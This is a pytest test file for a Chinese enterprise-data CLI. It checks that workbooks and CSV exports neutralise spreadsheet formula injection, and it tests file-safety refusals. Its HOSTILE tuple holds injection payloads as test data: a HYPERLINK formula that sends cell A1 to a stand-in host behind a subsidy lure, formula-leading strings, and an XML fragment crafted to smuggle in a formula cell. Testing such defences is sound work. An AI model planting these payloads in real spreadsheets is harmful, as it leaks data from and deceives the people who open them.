"""Every file techzone writes keeps hostile text as text: no cell comes back as a formula.

The demo's enterprises, parks and a 包抓联 department are renamed to what an attacker (or an
unlucky officer) might type — ``=HYPERLINK(…)``, ``-3``, ``+1``, ``@SUM(…)`` —
then every command that writes a workbook or CSV is run and its files are opened cell by cell.
"""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update
from typer.testing import CliRunner

from techzone.cli import app
from techzone.config import DATA_DIR_ENV
from techzone.io.output import FORMULA_STARTS
from techzone.model import Enterprise, Park, YearlyFigures
from techzone.store import open_store

runner = CliRunner()

HOSTILE = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"点击领取奖补")',
    "-3",
    "+1+1",
    "@SUM(1,2)",
    "'=1+1",
    "=1+1有限公司",
    # Shaped as XlsxWriter's rich text: copied into the sheet's XML unescaped, it would add a
    # formula cell (or leave a file no program opens).
    "<r><t>x</t></r></is><f>1+1</f><is><r><t>y</t></r>",
)


def _invoke(*arguments: str) -> str:
    result = runner.invoke(app, list(arguments))
    assert result.exit_code == 0, result.output
    return result.output


@pytest.fixture
def hostile(data_dir: Path) -> Path:
    _invoke("demo", "--enterprises", "60", "--seed", "3")
    store = open_store()
    with store.transaction() as session:
        ids = session.scalars(select(Enterprise.id).order_by(Enterprise.id)).all()
        for index, enterprise_id in enumerate(ids):
            name = f"{HOSTILE[index % len(HOSTILE)]}#{index}" if index >= len(HOSTILE) else None
            session.execute(
                update(Enterprise)
                .where(Enterprise.id == enterprise_id)
                .values(name=name or HOSTILE[index])
            )
        for index, park_id in enumerate(session.scalars(select(Park.id).order_by(Park.id))):
            session.execute(update(Park).where(Park.id == park_id).values(name=f"=园区{index}&A1"))
        first = session.scalars(select(YearlyFigures.id).order_by(YearlyFigures.id)).first()
        session.execute(
            update(YearlyFigures)
            .where(YearlyFigures.id == first)
            .values(net_profit=Decimal("-3.00"))
        )
    store.dispose()
    return data_dir


def _cells(path: Path) -> list[tuple[object, str]]:
    book = load_workbook(path)
    return [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _assert_no_formulas(path: Path, expect: str) -> None:
    cells = _cells(path)
    formulas = [value for value, kind in cells if kind == "f"]
    assert formulas == [], f"{path.name}: {formulas[:3]}"
    texts = [value for value, kind in cells if kind == "s" and isinstance(value, str)]
    # The test would pass vacuously if the hostile text never reached the file.
    assert any(expect in text for text in texts), f"{path.name} holds no {expect!r}"


def test_every_workbook_keeps_hostile_text_as_text(hostile: Path, tmp_path: Path) -> None:
    outputs = {
        "export": tmp_path / "export.xlsx",
        "assess": tmp_path / "assess.xlsx",
        "awards": tmp_path / "awards.xlsx",
        "budget": tmp_path / "budget.xlsx",
        "lists": tmp_path / "lists.xlsx",
        "weekly": tmp_path / "weekly.xlsx",
        "summary": tmp_path / "summary.xlsx",
        "evaluate": tmp_path / "evaluate.xlsx",
    }
    _invoke("export", "--out", str(outputs["export"]))
    _invoke("assess", "--all", "--as-of", "2026-06-30", "--out", str(outputs["assess"]))
    _invoke("awards", "--all", "--year", "2025", "--out", str(outputs["awards"]))
    _invoke("budget", "--year", "2025", "--out", str(outputs["budget"]))
    _invoke("lists", "--date", "2026-06-30", "--out", str(outputs["lists"]))
    _invoke("summary", "--as-of", "2026-06-30", "--out", str(outputs["summary"]))
    _invoke("zones", "evaluate", "--year", "2025", "--out", str(outputs["evaluate"]))
    uscc = load_workbook(outputs["export"])["企业"]["A2"].value
    _invoke(
        "apply",
        str(uscc),
        "--qualification",
        "高新技术企业",
        "--year",
        "2026",
        "--department",
        "=HYPERLINK(1)科技局",
        "--by",
        "@张三",
        "--on",
        "2026-07-01",
    )
    _invoke("report", "weekly", "--week", "2026-W36", "--out", str(outputs["weekly"]))
    for name in ("export", "assess", "awards"):
        _assert_no_formulas(outputs[name], HOSTILE[0])
    for name in ("budget", "lists", "summary", "evaluate", "weekly"):
        _assert_no_formulas(outputs[name], "=")
    # Numbers stay numbers: the negative profit is a number cell, the company "-3" is text.
    exported = _cells(outputs["export"])
    assert (Decimal("-3"), "n") in [(Decimal(str(v)), k) for v, k in exported if k == "n"]
    assert ("-3", "s") in exported


def test_the_import_error_report_keeps_the_typed_value_as_text(
    data_dir: Path, tmp_path: Path
) -> None:
    bad = tmp_path / "企业.csv"
    bad.write_text(
        "统一社会信用代码,企业名称,高新区代码,园区代码,成立日期,所有制,规上企业,上市状态\n"
        "=1+1,=HYPERLINK(1),GS-BY,BY-01,2020-01-01,民营,否,未上市\n",
        encoding="utf-8",
    )
    report = tmp_path / "report.xlsx"
    result = runner.invoke(app, ["import", str(bad), "--errors", str(report)])
    assert result.exit_code == 1
    _assert_no_formulas(report, "=1+1")


def test_the_extract_review_keeps_document_text_as_text(data_dir: Path, tmp_path: Path) -> None:
    document = tmp_path / "policy.txt"
    document.write_text(
        "第一条 =HYPERLINK(1)对首次认定的高新技术企业，给予一次性奖励10万元。\n", encoding="utf-8"
    )
    review = tmp_path / "review.xlsx"
    _invoke("extract", str(document), "--review", str(review))
    _assert_no_formulas(review, "=HYPERLINK(1)")


def _csv_cells(folder: Path) -> list[str]:
    cells: list[str] = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    return cells


def test_csv_export_escapes_and_round_trips(
    hostile: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    first, second = tmp_path / "first", tmp_path / "second"
    _invoke("export", "--csv", "--out", str(first))
    cells = _csv_cells(first)
    starts = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    # Only numbers may begin with "-": a negative amount is written as a number.
    assert all(Decimal(cell) < 0 for cell in starts), starts[:5]
    assert "-3.00" in cells and "'-3" in cells and "''=1+1" in cells
    monkeypatch.setenv(DATA_DIR_ENV, str(tmp_path / "again"))
    _invoke("import", str(first))
    _invoke("export", "--csv", "--out", str(second))
    for path in sorted(first.glob("*.csv")):
        assert path.read_bytes() == (second / path.name).read_bytes(), path.name


def test_workbook_export_round_trips_hostile_names(
    hostile: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    first, second = tmp_path / "first.xlsx", tmp_path / "second.xlsx"
    _invoke("export", "--out", str(first))
    monkeypatch.setenv(DATA_DIR_ENV, str(tmp_path / "again"))
    _invoke("import", str(first))
    _invoke("export", "--out", str(second))
    one, two = load_workbook(first), load_workbook(second)
    for name in one.sheetnames:
        assert list(one[name].values) == list(two[name].values), name
    names = [row[1] for row in two["企业"].iter_rows(min_row=2, values_only=True)]
    assert set(HOSTILE) <= set(names)


def _refused(arguments: list[str], fragment: str) -> None:
    result = runner.invoke(app, arguments)
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output and "程序内部出错" not in result.output
    assert result.output.strip().splitlines()[-1].startswith("错误：")
    assert fragment in result.output, result.output


@pytest.mark.parametrize("kind", ["workbook", "csv"])
def test_the_error_report_never_replaces_the_file_being_imported(
    data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    # `import 企业.xlsx --errors 企业.xlsx` wrote the report over the officer's only copy of
    # the data; the file is the same however it is spelled (relative, through a link).
    source = tmp_path / ("企业.xlsx" if kind == "workbook" else "企业.csv")
    source.write_bytes(b"PK\x03\x04 not really a workbook" if kind == "workbook" else b"a,b\n")
    original = source.read_bytes()
    monkeypatch.chdir(tmp_path)
    link = tmp_path / "链接.xlsx"
    link.symlink_to(source)
    for report in (str(source), source.name, str(link)):
        _refused(["import", str(source), "--errors", report], "不能与导入的文件相同")
        assert source.read_bytes() == original


def test_the_error_report_is_refused_under_another_suffix(data_dir: Path, tmp_path: Path) -> None:
    source = tmp_path / "企业.csv"
    source.write_text("a,b\n", encoding="utf-8")
    report = tmp_path / "报告.csv"
    _refused(["import", str(source), "--errors", str(report)], "--errors 的后缀须为 .xlsx")
    assert not report.exists()


@pytest.mark.parametrize(
    ("arguments", "name", "fragment"),
    [
        ([], "全部数据.csv", "--out 的后缀须为 .xlsx"),
        ([], "全部数据", "--out 的后缀须为 .xlsx"),
        (["--csv"], "全部数据.xlsx", "文件夹"),
    ],
)
def test_an_export_is_not_written_under_another_suffix(
    data_dir: Path, tmp_path: Path, arguments: list[str], name: str, fragment: str
) -> None:
    # A workbook's bytes in 全部数据.csv open as garbage; a folder named 全部数据.xlsx is no
    # workbook either. Refused before anything is written.
    target = tmp_path / name
    _refused(["export", *arguments, "--out", str(target)], fragment)
    assert not target.exists()


def test_a_device_or_pipe_is_not_imported(data_dir: Path, tmp_path: Path) -> None:
    # `import /dev/null` wrote /dev/null.错误报告.xlsx into /dev; a named pipe waited forever.
    import os

    device = tmp_path / "企业.xlsx"
    device.symlink_to(os.devnull)
    _refused(["import", str(device)], "不是普通文件")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["企业.xlsx"]


def test_a_refused_import_from_a_read_only_folder_still_says_what_is_wrong(
    data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A file opened from a CD, a shared or a read-only folder: the report beside it cannot be
    # written, and the officer saw only 「无法在文件夹中写入文件」, not that nothing was
    # imported nor why.
    import errno
    import tempfile

    source = tmp_path / "企业.csv"
    source.write_text("统一社会信用代码,企业名称\n123,某公司\n", encoding="utf-8")
    real = tempfile.mkstemp

    def read_only(*args: object, **kwargs: object) -> tuple[int, str]:
        if kwargs.get("dir") == tmp_path:
            raise OSError(errno.EROFS, "Read-only file system")
        return real(*args, **kwargs)  # type: ignore[call-overload,no-any-return]

    monkeypatch.setattr(tempfile, "mkstemp", read_only)
    result = runner.invoke(app, ["import", str(source)])
    assert result.exit_code == 1, result.output
    assert "缺少必填列「高新区代码」" in result.output
    last = result.output.strip().splitlines()[-1]
    assert last.startswith("错误：未写入任何数据") and "所在磁盘只读" in last, result.output
    assert "--errors" in result.output
    assert "Traceback" not in result.output


def test_an_output_that_replaces_an_earlier_file_says_so(data_dir: Path, tmp_path: Path) -> None:
    # The officer's earlier file of that name is replaced whole (never half), but it was done
    # without a word: a workbook edited by hand under that name was gone unannounced.
    target = tmp_path / "模板.xlsx"
    first = runner.invoke(app, ["template", "--out", str(target)])
    assert first.exit_code == 0, first.output
    assert "替换" not in first.output
    again = runner.invoke(app, ["template", "--out", str(target)])
    assert again.exit_code == 0, again.output
    assert f"已替换原有的同名文件：{target}" in again.output.replace("\n", "")


def test_a_csv_export_over_an_earlier_one_says_so_once(data_dir: Path, tmp_path: Path) -> None:
    from techzone.demo.load import load_demo
    from techzone.store import open_store

    load_demo(open_store(), enterprises=5)
    folder = tmp_path / "导出"
    assert runner.invoke(app, ["export", "--csv", "--out", str(folder)]).exit_code == 0
    again = runner.invoke(app, ["export", "--csv", "--out", str(folder)])
    assert again.exit_code == 0, again.output
    said = again.output.replace("\n", "")
    assert f"已替换文件夹「{folder}」中原有的同名文件" in said
    assert said.count("已替换") == 1
